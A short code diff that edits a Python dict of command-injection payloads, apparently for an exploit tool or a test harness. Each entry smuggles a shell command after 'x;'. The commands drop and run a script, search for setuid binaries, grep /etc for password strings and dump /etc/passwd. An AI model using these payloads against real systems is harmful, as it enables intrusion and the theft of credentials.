@@ -22,7 +22,7 @@ COMMANDS: dict[str, str] = {
     "drop-a-script": "x; printf '#!/bin/sh\\nid\\n' > visitors/door.sh;"
     " chmod 755 visitors/door.sh; visitors/door.sh #",
     "setuid-hunt": "x; find /usr/bin -perm -4000 #",
-    "who-runs": "x; for p in /proc/[1-9]*; do cat $p/cmdline; done 2>&1 #",
+    "look-for-secrets": "x; grep -rils passw /etc #",
     "pack-and-carry-off": "x; tar cf - /etc/passwd /etc/group | gzip | od -An -tx1 #",
 }
 """Commands that answer in the page itself."""
